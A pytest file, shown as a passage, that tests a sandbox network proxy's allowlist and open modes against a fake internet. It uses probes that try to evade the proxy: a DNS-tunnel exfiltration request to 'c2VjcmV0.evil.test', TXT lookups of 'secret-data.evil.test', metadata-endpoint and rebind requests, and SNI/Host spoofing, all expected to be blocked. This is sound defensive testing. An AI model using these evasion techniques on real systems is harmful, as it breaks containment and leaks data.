"""Network policy against a fake internet (fakenet.py; issue 4 "Testing without the internet").

The daemon runs in fakenet's host namespace with --dns-server 198.18.0.53; sandboxes try to
reach fakenet's servers with the tools an agent uses (curl through the proxy bulkhead sets in
the environment, curl --noproxy '*' and raw Python sockets that ignore it, git, openssl, raw
DNS and UDP). Every blocked attempt is also checked on the far side: the servers' logs must
show that nothing arrived.
"""

import json
import re
import signal
import socket
import subprocess
import threading
import time
import uuid
from pathlib import Path

import pytest

import fakenet as fn
import harness
from harness import assert_error_shape, files_url, wait_until

ALLOW = ["a.test", "*.b.test", "meta.test", "rebind.test", f"{fn.NAMELESS}:80"]
A_VIA = (fn.A_TEST, fn.A_TEST6)  # the proxy may pick either of a.test's addresses
PROXY = f"http://{harness.PROXY_HOST}:1000"
CURL = ["curl", "-sS", "--fail", "--max-time", "15"]
NOPROXY = ["--noproxy", "*"]
VIA_PROXY = ["--noproxy", "", "-x", PROXY]  # even for the NO_PROXY names (localhost, 127.0.0.1)
CACERT = ["--cacert", "/workspace/cert.pem"]
WHERE = ["-w", "\n%{remote_ip} %{remote_port}"]  # what curl itself connected to (the proxy or not)
SERVER_LOGS = ("http", "https", "metadata", "udp")
ARRIVAL_KINDS = {"data", "tls", "tls-failed", "request", "stream-end", "datagram"}  # bytes got there

# Runs in the sandbox: raw sockets that ignore every proxy setting; prints one JSON line.
PROBE = r'''
import json, os, socket, ssl, struct, sys

def report(**kw):
    print(json.dumps(kw))

def query(name, qtype):
    code = {"A": 1, "AAAA": 28, "TXT": 16}[qtype]
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", int.from_bytes(os.urandom(2), "big"), 0x0100, 1, 0, 0, 0) + qname + struct.pack("!HH", code, 1)

def parse(reply):
    rcode, ancount = reply[3] & 0x0F, struct.unpack("!H", reply[6:8])[0]
    return {"rcode": rcode, "answers": ancount, "text": reply[12:].decode("latin-1")}

cmd, args = sys.argv[1], sys.argv[2:]
try:
    if cmd == "http":  # ADDRESS PORT HOST_HEADER [tls]
        address, port, host = args[0], int(args[1]), args[2]
        sock = socket.create_connection((address, port), timeout=10)
        if len(args) > 3:
            context = ssl.create_default_context(cafile="/workspace/cert.pem")
            sock = context.wrap_socket(sock, server_hostname=host)
        sock.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
        report(ok=True, body=data.decode(errors="replace").split("\r\n\r\n", 1)[-1])
    elif cmd == "silent":  # ADDRESS PORT: connect, send nothing, wait for the proxy's verdict
        sock = socket.create_connection((args[0], int(args[1])), timeout=10)
        data = sock.recv(100)
        report(ok=bool(data), body=data.decode(errors="replace"))
    elif cmd == "dns":  # SERVER NAME QTYPE udp|tcp
        server, name, qtype, transport = args
        packet = query(name, qtype)
        if transport == "udp":
            sock = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
            sock.settimeout(5)
            sock.sendto(packet, (server, 53))
            reply = sock.recv(4096)
        else:
            sock = socket.create_connection((server, 53), timeout=5)
            sock.sendall(struct.pack("!H", len(packet)) + packet)
            head = sock.recv(2)
            reply = b""
            while len(reply) < struct.unpack("!H", head)[0]:
                reply += sock.recv(4096)
        report(ok=True, **parse(reply))
    elif cmd == "udp":  # ADDRESS PORT
        sock = socket.socket(socket.AF_INET6 if ":" in args[0] else socket.AF_INET, socket.SOCK_DGRAM)
        sock.settimeout(3)
        sock.sendto(b"ping from the sandbox", (args[0], int(args[1])))
        report(ok=True, body=sock.recv(4096).decode(errors="replace"))
    elif cmd == "ping":  # ADDRESS: one ICMP echo over a ping socket (no CAP_NET_RAW needed)
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        sock.settimeout(3)
        sock.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"bulkhead", (args[0], 0))
        reply = sock.recv(4096)
        report(ok=reply[0] == 0 and reply.endswith(b"bulkhead"), reply=reply.hex())
    elif cmd == "resolve":  # NAME
        report(ok=True, addresses=sorted({a[4][0] for a in socket.getaddrinfo(args[0], 80, proto=socket.IPPROTO_TCP)}))
except (OSError, ValueError) as exc:
    report(ok=False, errno=getattr(exc, "errno", None), error=str(exc))
'''


# ---------------------------------------------------------------- helpers

def name_allowed(name: str, allow: list[str]) -> bool:
    for entry in allow:
        if entry.startswith("*.") and name.endswith(entry[1:]):
            return True
        if entry == name:
            return True
    return False


class Box:
    """A sandbox on the network daemon, with the fake CA cert and the probe script inside."""

    def __init__(self, client, sandbox_id, allow, mode="allowlist"):
        self.client, self.id, self.allow, self.mode = client, sandbox_id, allow, mode

    def run(self, argv, **options) -> dict:
        return self.client.exec(self.id, argv, timeout=120, **options)

    def curl(self, *args) -> dict:
        """curl with --fail; adds 'body' and 'remote' (what curl connected to) to the result."""
        result = self.run(CURL + WHERE + list(args))
        body, _, remote = result["stdout"].rpartition("\n")
        return {**result, "body": body, "remote": remote}

    def probe(self, *args) -> dict:
        result = self.run(["python3", "/workspace/probe.py", *[str(a) for a in args]])
        assert result["exit_code"] == 0, result
        return json.loads(result["stdout"])

    def network(self, mode, allow=(), deny=()):
        body = {"mode": mode, "allow": list(allow)}
        if deny:
            body["deny"] = list(deny)
        r = self.client.request("PUT", f"/v1/sandboxes/{self.id}/network", body)
        assert r.status == 200, r
        self.allow, self.mode = list(allow), mode
        return r

    def egress(self, query: str = "") -> list[dict]:
        r = self.client.get(f"/v1/sandboxes/{self.id}/egress" + (f"?{query}" if query else ""))
        assert r.status == 200, r
        return r.json()["entries"]


def prepare(client, sandbox_id, net) -> None:
    for path, data in (("/workspace/cert.pem", net.cert_path.read_bytes()), ("/workspace/probe.py", PROBE.encode())):
        r = client.request("PUT", files_url(sandbox_id, path=path), body=data,
                           headers={"Content-Type": "application/octet-stream"})
        assert r.status == 201, r


def hello(host: str, via) -> set[str]:
    """The fake servers' answers for Host `host` reached on `via` (an address or a tuple of them)."""
    return {f"hello from {host} via {v}\n" for v in ((via,) if isinstance(via, str) else via)}


def settle():
    """Gives a connection the proxy might still be making (wrongly) time to show in the logs."""
    time.sleep(0.5)


def arrivals(net, mark, allow, level="accept") -> list[str]:
    """What reached fakenet since `mark` that must not have: any server event (level "accept")
    or only events that mean bytes got there (level "data"), and DNS queries for names the
    policy does not allow by name (allow=None: open mode, every name may be looked up)."""
    found = []
    for event in net.events_since(mark, SERVER_LOGS):
        if level == "accept" or event.kind in ARRIVAL_KINDS:
            found.append(str(event))
    for event in net.events_since(mark, ("dns",)):
        if event.kind == "query" and allow is not None and not name_allowed(event.detail.split(" ")[0], allow):
            found.append(str(event))
    return found


def assert_blocked(box: Box, net, argv, level="accept"):
    mark = net.mark()
    result = box.run(argv)
    settle()
    assert result["exit_code"] != 0, f"{argv} worked: {result}"
    assert "hello from" not in result["stdout"] and "SECRET" not in result["stdout"], result
    allow = None if box.mode == "open" else box.allow
    assert arrivals(net, mark, allow, level) == [], f"{argv} reached fakenet: {result}"
    return result


@pytest.fixture(autouse=True)
def daemon_survives(net_daemon):
    """Whatever a test did, the shared network daemon must have survived it."""
    yield
    assert net_daemon.running(), f"the daemon died (exit {net_daemon.process.returncode}):\n{net_daemon.log_tail()}"


@pytest.fixture
def net_client(net_daemon):
    return net_daemon.client()


@pytest.fixture
def make_box(net_daemon, fakenet, request):
    """Creates sandboxes on the network daemon; deletes them after the test."""
    client = net_daemon.client()
    made = []

    def make(mode: str | None = "allowlist", allow=ALLOW, deny=(), **spec) -> Box:
        if mode is not None:
            spec["network"] = {"mode": mode, "allow": list(allow)}
            if deny:
                spec["network"]["deny"] = list(deny)
        sandbox_id = client.create(**spec)["id"]
        made.append(sandbox_id)
        prepare(client, sandbox_id, fakenet)
        return Box(client, sandbox_id, list(allow) if mode else [], mode or "none")

    def cleanup():
        for sandbox_id in made:
            client.delete(f"/v1/sandboxes/{sandbox_id}")

    request.addfinalizer(cleanup)
    return make


@pytest.fixture(scope="module")
def allowlisted(net_daemon, fakenet, request) -> Box:
    """One allowlist sandbox (ALLOW) shared by the read-only checks of this module."""
    client = net_daemon.client()
    sandbox_id = client.create(network={"mode": "allowlist", "allow": ALLOW})["id"]
    request.addfinalizer(lambda: client.delete(f"/v1/sandboxes/{sandbox_id}"))
    prepare(client, sandbox_id, fakenet)
    return Box(client, sandbox_id, ALLOW)


@pytest.fixture
def host_bait(fakenet):
    """A TCP listener on every address of the daemon's host namespace (198.18.0.1, 2001:db8:1::1):
    returns (port, accepted()) where accepted() lists the connections it got."""
    sock = fn.socket_in_netns(fakenet.host_ns, socket.AF_INET6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    sock.bind(("::", 0))
    sock.listen(16)
    sock.setblocking(False)

    def accepted():
        peers = []
        while True:
            try:
                conn, peer = sock.accept()
            except BlockingIOError:
                return peers
            peers.append(peer)
            conn.close()

    yield sock.getsockname()[1], accepted
    sock.close()


# ---------------------------------------------------------------- mode none

def test_mode_none_is_the_default_and_reaches_nothing(make_box, fakenet, net_client):
    box = make_box(mode=None)
    assert net_client.sandbox(box.id)["network"] == {"mode": "none", "allow": [], "deny": []}
    env = box.run(["env"])["stdout"]
    assert ":1000" not in env, env
    mark = fakenet.mark()
    for argv in ([*CURL, "http://a.test/"], [*CURL, f"http://{fn.A_TEST}/"], [*CURL, "-k", f"https://{fn.A_TEST}/"],
                 [*CURL, "-g", f"http://[{fn.A_TEST6}]/"], [*CURL, f"http://{fn.METADATA}/"]):
        result = box.run(argv)
        assert result["exit_code"] != 0, result
    # No route at all: connect fails at once with ENETUNREACH, for DNS and UDP too.
    for args in (("http", fn.A_TEST, 80, "a.test"), ("http", fn.A_TEST6, 80, "a.test"),
                 ("dns", fn.DNS_SERVER, "a.test", "A", "udp"), ("dns", fn.DNS_SERVER, "a.test", "A", "tcp"),
                 ("dns", "127.0.0.1", "a.test", "A", "udp"), ("udp", fn.A_TEST, fn.UDP_ECHO_PORT)):
        outcome = box.probe(*args)
        assert not outcome["ok"], (args, outcome)
    assert box.probe("http", fn.A_TEST, 80, "a.test")["errno"] == 101  # ENETUNREACH
    settle()
    assert fakenet.events_since(mark) == []


# ---------------------------------------------------------------- allowlist: what works

def test_allowlist_sets_the_proxy_environment(allowlisted):
    env = dict(line.split("=", 1) for line in allowlisted.run(["env"])["stdout"].splitlines() if "=" in line)
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        assert env.get(name) == PROXY, (name, env)
    for name in ("NO_PROXY", "no_proxy"):
        assert set(env.get(name, "").split(",")) >= {"localhost", "127.0.0.1", "::1"}, (name, env)
    resolv = allowlisted.run(["cat", "/etc/resolv.conf"])["stdout"]
    assert [line.split() for line in resolv.splitlines() if line.startswith("nameserver")] == [["nameserver", harness.PROXY_HOST]]


@pytest.mark.parametrize("route", ["explicit", "transparent"])
@pytest.mark.parametrize("url,host,via", [
    ("http://a.test/", "a.test", A_VIA),
    ("https://a.test/", "a.test", A_VIA),
    ("https://www.a.test/", None, None),  # not allowed: "a.test" is exact (checked below)
    ("https://www.b.test/", "www.b.test", fn.B_TEST),
    (f"http://{fn.NAMELESS}/", fn.NAMELESS, fn.NAMELESS),  # the address entry "198.18.0.13:80"
], ids=["a-http", "a-https", "www-a-exact-only", "b-suffix-https", "ip-entry-port-80"])
def test_allowlist_curl(allowlisted, fakenet, route, url, host, via):
    box = allowlisted
    argv = ([*NOPROXY] if route == "transparent" else []) + CACERT + [url]
    if host is None:
        assert_blocked(box, fakenet, CURL + argv)
        return
    vias = (via,) if isinstance(via, str) else via
    mark = fakenet.mark()
    result = box.curl(*argv)
    assert result["exit_code"] == 0, result
    assert result["body"] in hello(host, vias), result
    port = "443" if url.startswith("https") else "80"
    # Explicit: curl talked to the proxy. Transparent: to the real address (the rules redirected it).
    if route == "explicit":
        assert result["remote"] == f"{harness.PROXY_HOST} 1000", result
    else:
        assert result["remote"] in {f"{v} {port}" for v in vias}, result
    requests = [e for e in fakenet.events_since(mark, SERVER_LOGS) if e.kind == "request"]
    assert len(requests) == 1 and requests[0].local_ip in vias, requests
    # It came from the daemon's host.
    assert requests[0].peer.rsplit(":", 1)[0].strip("[]") in (fn.HOST_ADDRESS, fn.HOST_ADDRESS6), requests


def test_allowlist_raw_sockets_resolve_and_connect(allowlisted, fakenet):
    """Programs that ignore proxy settings: the resolver answers allowed names with their real
    addresses, and plain connects to them are carried transparently (HTTP and TLS)."""
    box = allowlisted
    assert box.probe("resolve", "a.test")["addresses"] == sorted([fn.A_TEST, fn.A_TEST6])
    assert box.probe("resolve", "www.b.test")["addresses"] == [fn.B_TEST]
    for args in (("http", "a.test", 80, "a.test"), ("http", "a.test", 443, "a.test", "tls"),
                 ("http", fn.A_TEST, 443, "a.test", "tls"), ("http", "www.b.test", 443, "www.b.test", "tls"),
                 ("http", fn.NAMELESS, 80, fn.NAMELESS)):
        outcome = box.probe(*args)
        assert outcome["ok"], (args, outcome)
        via = {"a.test": A_VIA, "www.b.test": fn.B_TEST, fn.NAMELESS: fn.NAMELESS}[args[3]]
        assert outcome["body"] in hello(args[3], via), (args, outcome)
    for transport in ("udp", "tcp"):
        for server in (harness.PROXY_HOST, fn.DNS_SERVER):  # port 53 anywhere ends at bulkhead's resolver
            outcome = box.probe("dns", server, "a.test", "A", transport)
            assert outcome["ok"] and outcome["rcode"] == 0 and outcome["answers"] == 1, (server, transport, outcome)


def test_allowlist_carries_ipv6_to_an_allowed_name(allowlisted, fakenet):
    """A program that picks IPv6 (curl -6, a raw connect to the AAAA address) reaches an allowed
    name through the proxy as over IPv4: on every tier, the microvm guest included (its eth0 has
    a unique local address and a default route to the gateway, where the proxy listens)."""
    box = allowlisted
    for url, port in (("http://a.test/", "80"), ("https://a.test/", "443")):
        mark = fakenet.mark()
        result = box.curl(*NOPROXY, *CACERT, "-6", url)
        assert result["exit_code"] == 0, result
        assert result["body"] in hello("a.test", A_VIA), result
        assert result["remote"] == f"{fn.A_TEST6} {port}", result
        requests = [e for e in fakenet.events_since(mark, SERVER_LOGS) if e.kind == "request"]
        assert len(requests) == 1 and requests[0].local_ip in A_VIA, requests
    outcome = box.probe("http", fn.A_TEST6, 443, "a.test", "tls")
    assert outcome["ok"], outcome
    assert outcome["body"] in hello("a.test", A_VIA), outcome
    # The proxy named by its IPv6 address: an explicit proxy, which still judges the name.
    proxy = ["-x", f"http://[{harness.PROXY_HOST6}]:1000"]
    result = box.curl(*proxy, "http://a.test/")
    assert result["exit_code"] == 0 and result["body"] in hello("a.test", A_VIA), result
    assert_blocked(box, fakenet, [*CURL, *proxy, "http://other.test/"])


@pytest.mark.parametrize("route", ["explicit", "transparent"])
def test_allowlist_git_clone_over_https(allowlisted, fakenet, route):
    unset = "unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY; " if route == "transparent" else ""
    target = f"/workspace/clone-{route}"
    script = f"{unset}rm -rf {target} && HOME=/tmp GIT_SSL_NO_VERIFY=1 git clone -q https://a.test/repo.git {target} " \
             f"&& cat {target}/{fn.REPO_TOKEN_FILE}"
    result = allowlisted.run(script)
    assert result["exit_code"] == 0, result
    assert result["stdout"] == fakenet.repo_token + "\n", result


# ---------------------------------------------------------------- allowlist: what must fail

BLOCKED = {
    "other-name-explicit-http": [*CURL, "http://other.test/"],
    "other-name-explicit-https": [*CURL, *CACERT, "https://other.test/"],
    "other-name-transparent": [*CURL, *NOPROXY, "http://other.test/"],
    "other-address-transparent-host": [*CURL, *NOPROXY, "--resolve", f"other.test:80:{fn.OTHER_TEST}", "http://other.test/"],
    "other-address-transparent-sni": [*CURL, *NOPROXY, *CACERT, "--resolve", f"other.test:443:{fn.OTHER_TEST}",
                                      "https://other.test/"],
    "ip-literal-explicit-http": [*CURL, f"http://{fn.OTHER_TEST}/"],
    "ip-literal-explicit-https": [*CURL, "-k", f"https://{fn.OTHER_TEST}/"],
    "ip-literal-transparent-http": [*CURL, *NOPROXY, f"http://{fn.OTHER_TEST}/"],
    "ip-literal-transparent-https": [*CURL, *NOPROXY, "-k", f"https://{fn.OTHER_TEST}/"],
    "ip-entry-other-port-explicit": [*CURL, "-k", f"https://{fn.NAMELESS}/"],
    "ip-entry-other-port-transparent": [*CURL, *NOPROXY, "-k", f"https://{fn.NAMELESS}/"],
    "suffix-entry-not-apex-explicit": [*CURL, *CACERT, "https://b.test/"],
    "ipv6-literal-explicit": [*CURL, "-g", f"http://[{fn.OTHER_TEST6}]/"],
    "ipv6-literal-transparent": [*CURL, *NOPROXY, "-g", f"http://[{fn.OTHER_TEST6}]/"],
    "ipv6-literal-transparent-tls": [*CURL, *NOPROXY, "-k", "-g", f"https://[{fn.OTHER_TEST6}]/"],
    "ipv6-other-name-transparent": [*CURL, *NOPROXY, "-6", "--resolve", f"other.test:80:[{fn.OTHER_TEST6}]",
                                    "http://other.test/"],
    "metadata-explicit": [*CURL, f"http://{fn.METADATA}/latest/meta-data/"],
    "metadata-transparent": [*CURL, *NOPROXY, f"http://{fn.METADATA}/latest/meta-data/"],
    "metadata-by-allowed-name-explicit": [*CURL, "http://meta.test/latest/meta-data/"],
    "metadata-by-allowed-name-transparent": [*CURL, *NOPROXY, "http://meta.test/latest/meta-data/"],
    "rebind-by-allowed-name-explicit": [*CURL, "http://rebind.test/"],
    "rebind-by-allowed-name-transparent": [*CURL, *NOPROXY, "http://rebind.test/"],
    "lan-literal-transparent": [*CURL, *NOPROXY, f"http://{fn.LAN_HOST}/"],
    "dns-tunnel-through-the-proxy": [*CURL, "http://c2VjcmV0.evil.test/"],
}


@pytest.mark.parametrize("argv", list(BLOCKED.values()), ids=list(BLOCKED))
def test_allowlist_blocks(allowlisted, fakenet, argv):
    assert_blocked(allowlisted, fakenet, argv)


@pytest.mark.parametrize("address", [fn.OTHER_TEST, fn.OTHER_TEST6, fn.NAMELESS, fn.METADATA, fn.LAN_HOST])
def test_allowlist_blocks_raw_connects(allowlisted, fakenet, address):
    """A raw connect that sends nothing (no name to judge by) and one that names no allowed host
    (the NAMELESS address is allowed on port 80 only: tried on 443)."""
    port = 443 if address == fn.NAMELESS else 80
    mark = fakenet.mark()
    assert not allowlisted.probe("silent", address, port)["ok"]
    assert not allowlisted.probe("http", address, port, address)["ok"]
    settle()
    assert arrivals(fakenet, mark, ALLOW) == []


@pytest.mark.parametrize("transport", ["udp", "tcp"])
@pytest.mark.parametrize("server", [harness.PROXY_HOST, fn.DNS_SERVER])
def test_allowlist_dns_answers_only_allowed_names(allowlisted, fakenet, server, transport):
    """TXT lookups of a disallowed name (a DNS tunnel) get NXDOMAIN and are never forwarded,
    whichever server the sandbox asks (port 53 anywhere ends at bulkhead's resolver)."""
    mark = fakenet.mark()
    for name, qtype in (("secret-data.evil.test", "TXT"), ("evil.test", "TXT"), ("other.test", "A"),
                        ("www.a.test", "A")):
        outcome = allowlisted.probe("dns", server, name, qtype, transport)
        assert outcome["ok"] and outcome["rcode"] == 3 and outcome["answers"] == 0, (name, qtype, outcome)
        assert "tunnel" not in outcome["text"], outcome
    settle()
    assert [e for e in fakenet.events_since(mark, ("dns",)) if e.kind == "query"] == []


def test_allowlist_drops_udp(allowlisted, fakenet):
    mark = fakenet.mark()
    for address in (fn.A_TEST, fn.NAMELESS, fn.DNS_SERVER, fn.A_TEST6, fn.OTHER_TEST6):
        assert not allowlisted.probe("udp", address, fn.UDP_ECHO_PORT)["ok"]
    settle()
    assert fakenet.events_since(mark, ("udp",)) == []


def test_allowlist_blocks_the_daemon_host(allowlisted, fakenet, net_daemon, host_bait):
    """The host's own addresses (where the daemon and its API listen) and the sandbox's own
    loopback (which is not the host's) are out of reach."""
    bait_port, accepted = host_bait
    api = net_daemon.port
    for argv in ([*CURL, f"http://{fn.HOST_ADDRESS}:{api}/healthz"], [*CURL, *NOPROXY, f"http://{fn.HOST_ADDRESS}:{api}/healthz"],
                 [*CURL, f"http://127.0.0.1:{api}/healthz"], [*CURL, *VIA_PROXY, f"http://127.0.0.1:{api}/healthz"],
                 [*CURL, *VIA_PROXY, f"http://localhost:{api}/healthz"],
                 [*CURL, "-g", f"http://[{fn.HOST_ADDRESS6}]:{api}/healthz"],
                 [*CURL, *NOPROXY, "-g", f"http://[{fn.HOST_ADDRESS6}]:{api}/healthz"],
                 [*CURL, f"http://{fn.HOST_ADDRESS}:{bait_port}/"], [*CURL, *NOPROXY, f"http://{fn.HOST_ADDRESS}:{bait_port}/"],
                 [*CURL, *NOPROXY, "-g", f"http://[{fn.HOST_ADDRESS6}]:{bait_port}/"]):
        result = assert_blocked(allowlisted, fakenet, argv)
        assert '"status"' not in result["stdout"], result
    assert not allowlisted.probe("silent", fn.HOST_ADDRESS, bait_port)["ok"]
    assert accepted() == []


@pytest.fixture
def loopback_service(fakenet):
    """An HTTP server on 127.0.0.1 of the daemon's host namespace: (port, peers it served)."""
    sock = fn.socket_in_netns(fakenet.host_ns, socket.AF_INET)
    sock.bind(("127.0.0.1", 0))
    sock.listen(16)
    served = []

    def serve():
        while True:
            try:
                conn, peer = sock.accept()
            except OSError:
                return
            served.append(peer)
            with conn:
                conn.settimeout(10)
                try:
                    conn.recv(65536)
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 19\r\nConnection: close\r\n\r\n"
                                 b"hello from loopback")
                except OSError:
                    pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield sock.getsockname()[1], served
    sock.shutdown(socket.SHUT_RDWR)
    sock.close()
    thread.join(timeout=10)


def test_no_allow_entry_reopens_the_daemons_own_listeners(make_box, fakenet, net_daemon, loopback_service):
    """Issue 17, finding 7: entries that cover the daemon's addresses (all of loopback, the host's
    address, its exact ip:port, a name for it; in allowlist and open mode) still leave its API
    and E2B listeners (on 0.0.0.0 here) out of reach, through the proxy and transparently; an
    allowed loopback service of the host stays reachable."""
    service_port, served = loopback_service
    ports = (net_daemon.port, int(net_daemon.e2b_url.rsplit(":", 1)[1]))
    exact = [f"{host}:{port}" for host in ("127.0.0.1", fn.HOST_ADDRESS) for port in ports]
    boxes = [make_box("allowlist", ["127.0.0.0/8", fn.HOST_ADDRESS, "home.test"]),
             make_box("allowlist", exact + [f"127.0.0.1:{service_port}"]),
             make_box("open", ["127.0.0.0/8", fn.HOST_ADDRESS, "10.0.0.0/8"])]
    _, gateway = open_link(boxes[2])  # the host side of its link: an address of the daemon's host too
    for box in boxes:
        # Through the proxy (absolute-form and CONNECT), and transparently to the host's addresses.
        by_proxy = ["127.0.0.1", "localhost", fn.HOST_ADDRESS, "home.test"]
        direct = [fn.HOST_ADDRESS] + ([gateway] if box.mode == "open" else [])
        for port in ports:
            attempts = [[*CURL, *tunnel, *VIA_PROXY, f"http://{host}:{port}/healthz"]
                        for host in by_proxy + direct for tunnel in ([], ["-p"])]
            # (Straight to the gateway, TCP is neither proxied nor forwarded: it times out.)
            attempts += [[*CURL, "--connect-timeout", "3", *NOPROXY, f"http://{host}:{port}/healthz"] for host in direct]
            for argv in attempts:
                result = box.run(argv)
                assert result["exit_code"] != 0, f"{box.allow}: {argv} reached the daemon: {result}"
                assert '"status"' not in result["stdout"], result
            raw = box.probe("http", fn.HOST_ADDRESS, port, fn.HOST_ADDRESS)
            assert not raw["ok"] or '"status"' not in raw["body"], (box.allow, port, raw)
        reasons = [e["reason"] for e in box.egress() if e["verdict"] == "denied" and e["port"] in ports]
        assert any("the daemon's own listener" in reason for reason in reasons), (box.allow, reasons)
    # The same entries still reach another loopback service of the host.
    for box in boxes:
        result = box.curl(*VIA_PROXY, f"http://127.0.0.1:{service_port}/")
        assert result["exit_code"] == 0 and result["body"] == "hello from loopback", (box.allow, result)
    assert len(served) == len(boxes)


# ---------------------------------------------------------------- SNI and Host tricks

def test_sni_and_host_must_name_the_destination(allowlisted, fakenet):
    box = allowlisted
    # CONNECT a.test:443 then a ClientHello for other.test: refused, no TLS bytes reach a.test.
    base = ["openssl", "s_client", "-proxy", f"{harness.PROXY_HOST}:1000", "-connect", "a.test:443", "-CAfile", "/workspace/cert.pem"]
    control = box.run(base + ["-servername", "a.test"], stdin="")
    assert "Server certificate" in control["stdout"], control
    mark = fakenet.mark()
    fronted = box.run(base + ["-servername", "other.test"], stdin="")
    settle()
    assert "Server certificate" not in fronted["stdout"], fronted
    assert arrivals(fakenet, mark, ALLOW, level="data") == []
    assert [e for e in fakenet.events_since(mark, SERVER_LOGS) if e.local_ip == fn.OTHER_TEST] == []

    # SNI other.test / Host other.test sent to a.test's address (which the resolver handed out,
    # so the proxy may connect at once): refused before any byte reaches the server.
    for argv in ([*CURL, *NOPROXY, *CACERT, "--resolve", f"other.test:443:{fn.A_TEST}", "https://other.test/"],
                 [*CURL, *NOPROXY, "--resolve", f"other.test:80:{fn.A_TEST}", "http://other.test/"],
                 [*CURL, *NOPROXY, *CACERT, "--resolve", f"b.test:443:{fn.B_TEST}", "https://b.test/"],  # not *.b.test
                 [*CURL, *NOPROXY, "-H", "Host: other.test", "http://a.test/"],
                 [*CURL, "-H", "Host: other.test", "http://a.test/"]):  # absolute-form URI a.test, Host other.test
        assert_blocked(box, fakenet, argv, level="data")


def test_the_proxy_connects_to_what_it_resolved_not_what_the_sandbox_picked(allowlisted, fakenet):
    """An allowed name aimed at other.test's address, and Host: other.test hidden inside TLS to
    a.test: whatever the answer, nothing ever reaches other.test's address."""
    box = allowlisted
    mark = fakenet.mark()
    for argv in ([*NOPROXY, *CACERT, "--resolve", f"a.test:443:{fn.OTHER_TEST}", "https://a.test/"],
                 [*NOPROXY, "--resolve", f"a.test:80:{fn.OTHER_TEST}", "http://a.test/"],
                 [*NOPROXY, *CACERT, "-H", "Host: other.test", "https://a.test/"],
                 [*CACERT, "-H", "Host: other.test", "https://a.test/"]):
        result = box.curl(*argv)
        if result["exit_code"] == 0:
            assert result["body"].rpartition(" via ")[2].strip() in A_VIA, (argv, result)
    outcome = box.probe("http", fn.OTHER_TEST, 80, "a.test")
    if outcome["ok"]:
        assert outcome["body"] in hello("a.test", A_VIA), outcome
    settle()
    assert [str(e) for e in fakenet.events_since(mark, SERVER_LOGS) if e.local_ip == fn.OTHER_TEST] == []


# ---------------------------------------------------------------- open mode

@pytest.mark.parametrize("route", ["explicit", "transparent"])
def test_open_reaches_public_addresses_but_not_the_denied_ranges(make_box, fakenet, host_bait, route):
    box = make_box("open", [])
    bait_port, accepted = host_bait
    extra = NOPROXY if route == "transparent" else []
    other = (fn.OTHER_TEST, fn.OTHER_TEST6)
    for url, host, via in (("http://a.test/", "a.test", A_VIA), ("http://other.test/", "other.test", other),
                           ("https://other.test/", "other.test", other),
                           (f"http://{fn.OTHER_TEST}/", fn.OTHER_TEST, fn.OTHER_TEST)):
        result = box.curl(*extra, *CACERT, url)
        assert result["exit_code"] == 0 and result["body"] in hello(host, via), (url, result)
    for url in (f"http://{fn.METADATA}/", "http://meta.test/", f"http://{fn.LAN_HOST}/", "http://rebind.test/",
                f"http://{fn.HOST_ADDRESS}:{bait_port}/"):
        assert_blocked(box, fakenet, [*CURL, *extra, url])
    assert accepted() == []


def test_open_with_an_address_entry_reopens_a_denied_range(make_box, fakenet):
    box = make_box("open", [f"{fn.LAN_HOST}:80"])
    result = box.curl(*NOPROXY, f"http://{fn.LAN_HOST}/")
    assert result["exit_code"] == 0 and result["body"] in hello(fn.LAN_HOST, fn.LAN_HOST), result
    assert_blocked(box, fakenet, [*CURL, *NOPROXY, f"http://{fn.METADATA}/"])


@pytest.fixture
def udp_bait(fakenet):
    """A UDP socket on every IPv4 address of the daemon's namespace (198.18.0.1, the open links'
    host sides): returns (port, received()) where received() lists the datagrams' senders."""
    sock = fn.socket_in_netns(fakenet.host_ns, socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", 0))
    sock.setblocking(False)

    def received():
        peers = []
        while True:
            try:
                peers.append(sock.recvfrom(4096)[1])
            except BlockingIOError:
                return peers

    yield sock.getsockname()[1], received
    sock.close()


def open_link(box: Box) -> tuple[str, str] | None:
    """(the sandbox side's address, its gateway) of the eth0 in the box's network namespace, or
    None without one. A microvm guest's own eth0 is another link: its namespace is looked at
    from the host (QEMU runs in it)."""
    script = "ip -4 -o addr show dev eth0 && ip -4 route show table 100 && ip -4 route"
    if harness.RUNTIME == "microvm":
        done = subprocess.run(["nsenter", "-t", str(harness.qemu_pid(box.id)), "-n", "sh", "-c", script],
                              capture_output=True, text=True)
        result = {"exit_code": done.returncode, "stdout": done.stdout}
    else:
        # (gvisor shows the namespace's routes, every table's, in one dump)
        result = box.run(["sh", "-c", script])
    if result["exit_code"] != 0:
        return None
    address = re.search(r"inet (\d+\.\d+\.\d+\.\d+)/30", result["stdout"])
    gateway = re.search(r"default via (\S+) dev eth0", result["stdout"])
    assert address and gateway, result
    return address.group(1), gateway.group(1)


def host_links(fakenet) -> list[str]:
    """The open links' host sides in the daemon's namespace."""
    out = fn.run_in(fakenet.host_ns, ["ip", "-o", "link", "show", "type", "veth"])
    return [m.group(1) for m in re.finditer(r"^\d+: (bh[0-9a-f]+)@", out, re.M)]


def test_open_carries_udp_and_icmp_to_public_addresses(make_box, fakenet):
    box = make_box("open", [])
    mark = fakenet.mark()
    for address in (fn.A_TEST, fn.NAMELESS):
        outcome = box.probe("udp", address, fn.UDP_ECHO_PORT)
        assert outcome["ok"] and outcome["body"] == "ping from the sandbox", (address, outcome)
        outcome = box.probe("ping", address)
        assert outcome["ok"], (address, outcome)
    settle()
    # The echo saw the datagrams come from the daemon host's address: NAT, as a router would.
    datagrams = [e for e in fakenet.events_since(mark, ("udp",)) if e.kind == "datagram"]
